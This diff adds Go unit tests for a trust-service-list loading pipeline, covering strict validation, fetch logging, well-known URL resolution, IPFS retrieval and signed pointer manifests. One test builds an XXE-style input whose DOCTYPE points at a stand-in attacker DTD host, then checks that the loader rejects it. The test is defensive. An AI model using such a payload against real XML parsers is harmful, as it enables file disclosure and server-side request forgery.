@@ -1,13 +1,24 @@
 package pipeline
 
 import (
+	"bytes"
+	"crypto/sha256"
+	"fmt"
 	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 
+	"github.com/sirosfoundation/g119612/pkg/dsig"
+	"github.com/sirosfoundation/g119612/pkg/etsi119612"
+	"github.com/sirosfoundation/g119612/pkg/ipfs"
 	"github.com/sirosfoundation/g119612/pkg/logging"
+	"github.com/sirosfoundation/g119612/pkg/validation"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 )
 
 func TestLoadTSLWithDepthControl(t *testing.T) {
@@ -269,3 +280,239 @@ func TestLoadTSLServiceCounting(t *testing.T) {
 	assert.Equal(t, 2, providerCount, "Should have 2 providers")
 	assert.Equal(t, 3, serviceCount, "Should have 3 services")
 }
+
+func TestLoadTSLStrict(t *testing.T) {
+	pl := &Pipeline{
+		Logger: logging.NewLogger(logging.DebugLevel),
+	}
+
+	// The test TSL lacks several mandatory elements, which only strict mode rejects
+	ctx, err := LoadTSL(pl, NewContext(), "./testdata/test-tsl.xml")
+	assert.NoError(t, err)
+	assert.Equal(t, 1, ctx.TSLTrees.Size())
+
+	_, err = LoadTSL(pl, NewContext(), "./testdata/test-tsl.xml", "strict")
+	assert.ErrorIs(t, err, etsi119612.ErrStrictValidation)
+	assert.Contains(t, err.Error(), "missing mandatory element")
+
+	_, err = LoadTSL(pl, NewContext(), "./testdata/test-tsl.xml", "strict:false")
+	assert.NoError(t, err)
+
+	_, err = LoadTSL(pl, NewContext(), "./testdata/test-tsl.xml", "strict:maybe")
+	assert.Error(t, err)
+
+	// Strict mode must not leak into the shared fetch options
+	ctx = NewContext()
+	_, err = LoadTSL(pl, ctx, "./testdata/test-tsl.xml", "strict")
+	assert.Error(t, err)
+	assert.False(t, ctx.TSLFetchOptions.Strict)
+}
+
+func TestLoadTSLFetchInfo(t *testing.T) {
+	var buf bytes.Buffer
+	logger := logging.NewLogger(logging.InfoLevel)
+	logger.(logging.OutputConfigurable).SetOutput(&buf)
+	pl := &Pipeline{Logger: logger}
+
+	ctx, err := LoadTSL(pl, NewContext(), "./testdata/test-tsl.xml")
+	require.NoError(t, err)
+	infos := ctx.FetchInfos()
+	require.Len(t, infos, 1)
+	assert.Positive(t, infos[0].Size)
+	assert.Contains(t, buf.String(), fmt.Sprintf("bytes=%d", infos[0].Size))
+	assert.Contains(t, buf.String(), "cached=false")
+	assert.Contains(t, buf.String(), "fetch_duration=")
+	assert.Contains(t, buf.String(), "sequence=1", "log lines identify the TSL")
+
+	// Generated TSLs have no fetch metadata
+	ctx = NewContext()
+	ctx.AddTSL(generateTSL("Test Service", "http://uri.etsi.org/TrstSvc/Svctype/CA/QC", nil))
+	assert.Empty(t, ctx.FetchInfos())
+}
+
+func TestLoadTSLDoctype(t *testing.T) {
+	pl := &Pipeline{Logger: logging.SilentLogger()}
+	data, err := os.ReadFile("./testdata/test-tsl.xml")
+	require.NoError(t, err)
+	xxe := filepath.Join(t.TempDir(), "xxe-tsl.xml")
+	require.NoError(t, os.WriteFile(xxe, []byte(`<!DOCTYPE TrustServiceStatusList SYSTEM "http://attacker.example.com/evil.dtd">`+
+		strings.TrimPrefix(string(data), `<?xml version="1.0" encoding="UTF-8"?>`)), 0644))
+
+	_, err = LoadTSL(pl, NewContext(), xxe)
+	assert.ErrorIs(t, err, validation.ErrDoctype)
+
+	ctx := NewContext()
+	ctx, err = LoadTSL(pl, ctx, xxe, "allow-doctype")
+	require.NoError(t, err)
+	assert.Equal(t, 1, ctx.TSLTrees.Size())
+	assert.False(t, ctx.TSLFetchOptions.AllowDoctype, "allow-doctype must not leak into the shared fetch options")
+
+	_, err = LoadTSL(pl, NewContext(), xxe, "allow-doctype:false")
+	assert.ErrorIs(t, err, validation.ErrDoctype)
+	_, err = LoadTSL(pl, NewContext(), xxe, "allow-doctype:maybe")
+	assert.Error(t, err)
+}
+
+func TestLoadTSLWellKnown(t *testing.T) {
+	tslData, err := os.ReadFile("./testdata/test-tsl.xml")
+	require.NoError(t, err)
+
+	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/.well-known/trust-list":
+			w.Write([]byte("/tsl/current.xml"))
+		case "/custom/path":
+			http.Redirect(w, r, "/tsl/current.xml", http.StatusFound)
+		case "/tsl/current.xml":
+			w.Write(tslData)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+	host := strings.TrimPrefix(srv.URL, "https://")
+
+	pl := &Pipeline{
+		Logger: logging.NewLogger(logging.DebugLevel),
+	}
+	newCtx := func() *Context {
+		ctx := NewContext()
+		ctx.EnsureTSLFetchOptions()
+		ctx.TSLFetchOptions.Client = srv.Client()
+		return ctx
+	}
+
+	ctx, err := LoadTSL(pl, newCtx(), "wellknown:"+host)
+	require.NoError(t, err)
+	require.Equal(t, 1, ctx.TSLTrees.Size())
+	tree, _ := ctx.TSLTrees.Peek()
+	assert.Equal(t, srv.URL+"/tsl/current.xml", tree.Root.TSL.Source)
+
+	ctx, err = LoadTSL(pl, newCtx(), "wellknown:"+host, "wellknown-path:/custom/path")
+	require.NoError(t, err)
+	assert.Equal(t, 1, ctx.TSLTrees.Size())
+
+	_, err = LoadTSL(pl, newCtx(), "wellknown:"+host, "wellknown-path:/missing")
+	assert.ErrorContains(t, err, "failed to resolve well-known TSL location")
+}
+
+func TestLoadTSLStrictPointers(t *testing.T) {
+	child, err := filepath.Abs("./testdata/test-tsl.xml")
+	require.NoError(t, err)
+	parent := filepath.Join(t.TempDir(), "parent.xml")
+	require.NoError(t, os.WriteFile(parent, []byte(`<tsl:TrustServiceStatusList xmlns:tsl="http://uri.etsi.org/02231/v2#">
+  <tsl:SchemeInformation>
+    <tsl:PointersToOtherTSL>
+      <tsl:OtherTSLPointer>
+        <tsl:TSLLocation>file://`+child+`</tsl:TSLLocation>
+        <tsl:AdditionalInformation>
+          <tsl:OtherInformation><tsl:SchemeTerritory>DE</tsl:SchemeTerritory></tsl:OtherInformation>
+        </tsl:AdditionalInformation>
+      </tsl:OtherTSLPointer>
+    </tsl:PointersToOtherTSL>
+  </tsl:SchemeInformation>
+</tsl:TrustServiceStatusList>`), 0644))
+
+	pl := &Pipeline{
+		Logger: logging.NewLogger(logging.DebugLevel),
+	}
+	newCtx := func() *Context {
+		ctx := NewContext()
+		ctx.EnsureTSLFetchOptions()
+		ctx.TSLFetchOptions.MaxDereferenceDepth = 1
+		return ctx
+	}
+
+	// By default the mismatch is reported and the referenced TSL is kept
+	ctx, err := LoadTSL(pl, newCtx(), parent)
+	require.NoError(t, err)
+	tree, ok := ctx.TSLTrees.Peek()
+	require.True(t, ok)
+	assert.Equal(t, 2, tree.Count())
+	require.Len(t, tree.Root.TSL.PointerMismatches, 1)
+	assert.Equal(t, "SchemeTerritory", tree.Root.TSL.PointerMismatches[0].Field)
+
+	ctx, err = LoadTSL(pl, newCtx(), parent, "strict-pointers")
+	require.NoError(t, err)
+	tree, ok = ctx.TSLTrees.Peek()
+	require.True(t, ok)
+	assert.Equal(t, 1, tree.Count())
+
+	_, err = LoadTSL(pl, newCtx(), parent, "strict-pointers:maybe")
+	assert.Error(t, err)
+}
+
+func TestLoadTSLIPFS(t *testing.T) {
+	tslData, err := os.ReadFile("./testdata/test-tsl.xml")
+	require.NoError(t, err)
+	cid := ipfs.Sum(ipfs.CodecRaw, tslData)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/ipfs/"+cid.String() {
+			http.NotFound(w, r)
+			return
+		}
+		w.Write(tslData)
+	}))
+	defer srv.Close()
+
+	pl := &Pipeline{Logger: logging.SilentLogger()}
+	ctx, err := SetFetchOptions(pl, NewContext(), "ipfs-gateway:"+srv.URL)
+	require.NoError(t, err)
+	ctx, err = LoadTSL(pl, ctx, "ipfs://"+cid.String())
+	require.NoError(t, err)
+	require.Equal(t, 1, ctx.TSLTrees.Size())
+	tree, _ := ctx.TSLTrees.Peek()
+	assert.Equal(t, "ipfs://"+cid.String(), tree.Root.TSL.Source)
+
+	// A document that is not the one the CID names is rejected
+	other := ipfs.Sum(ipfs.CodecRaw, []byte("another document"))
+	_, err = LoadTSL(pl, ctx, "ipfs://"+other.String())
+	assert.Error(t, err)
+}
+
+func TestLoadTSLPointerManifest(t *testing.T) {
+	signer, err := dsig.GenerateSelfSignedSigner(dsig.SelfSignedOptions{})
+	require.NoError(t, err)
+	data, err := os.ReadFile("./testdata/test-tsl.xml")
+	require.NoError(t, err)
+	signed, err := signer.Sign(data)
+	require.NoError(t, err)
+	dir := t.TempDir()
+	list := filepath.Join(dir, "list.xml")
+	require.NoError(t, os.WriteFile(list, signed, 0644))
+	unsigned, err := filepath.Abs("./testdata/test-tsl.xml")
+	require.NoError(t, err)
+
+	digest := sha256.Sum256(signer.Certificate.Raw)
+	manifest := filepath.Join(dir, "pointers.json")
+	require.NoError(t, os.WriteFile(manifest, []byte(fmt.Sprintf(`{
+  "territory": "EU",
+  "operator": "Example Federation",
+  "pointers": [
+    {"location": "file://%s", "signers": ["%x"]},
+    {"location": "file://%s", "signers": ["%x"]}
+  ]
+}`, list, digest, unsigned, digest)), 0644))
+
+	logger := logging.NewLogger(logging.InfoLevel)
+	var buf bytes.Buffer
+	logger.(logging.OutputConfigurable).SetOutput(&buf)
+	pl := &Pipeline{Logger: logger}
+
+	// The unsigned list is skipped, the signed one is loaded below the manifest
+	ctx, err := LoadTSL(pl, NewContext(), "pointers:"+manifest)
+	require.NoError(t, err)
+	tree, ok := ctx.TSLTrees.Peek()
+	require.True(t, ok)
+	assert.Equal(t, 2, tree.Count())
+	assert.Equal(t, "EU", tree.Root.TSL.Identity().Territory)
+	require.Len(t, tree.Root.TSL.Referenced, 1)
+	assert.Equal(t, "file://"+list, tree.Root.TSL.Referenced[0].Source)
+	assert.Contains(t, buf.String(), "TSL of pointer manifest not loaded")
+	assert.Contains(t, buf.String(), unsigned)
+
+	_, err = LoadTSL(pl, NewContext(), "pointers:"+manifest, "mirrors:"+list)
+	assert.ErrorIs(t, err, ErrInvalidArguments)
+	_, err = LoadTSL(pl, NewContext(), "pointers:"+list)
+	assert.ErrorContains(t, err, "invalid pointer manifest")
+}